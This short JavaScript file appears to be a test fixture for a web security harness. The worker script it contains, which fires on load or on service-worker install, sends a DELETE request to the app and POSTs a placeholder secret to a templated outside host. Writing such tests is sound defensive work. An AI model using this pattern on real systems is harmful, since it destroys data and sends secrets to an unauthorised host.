// One script for a dedicated, a shared and a service worker: each sends DELETE to the app and
// a secret to the host outside the plan (a service worker when it installs).
var BASE = "{{APP}}/{{CH}}";

function attack(tag) {
  return Promise.all([
    fetch(BASE + "/ran-" + tag),
    fetch(BASE + "/items/6?from=" + tag, {method: "DELETE"}),
    fetch("{{OTHER}}/{{CH}}/collect?from=" + tag, {method: "POST", mode: "no-cors", body: "secret=s3cr3t"}),
  ]).catch(function () {});
}

if (typeof ServiceWorkerGlobalScope !== "undefined" && self instanceof ServiceWorkerGlobalScope) {
  self.addEventListener("install", function (event) { event.waitUntil(attack("service")); });
} else {
  attack("script");
}
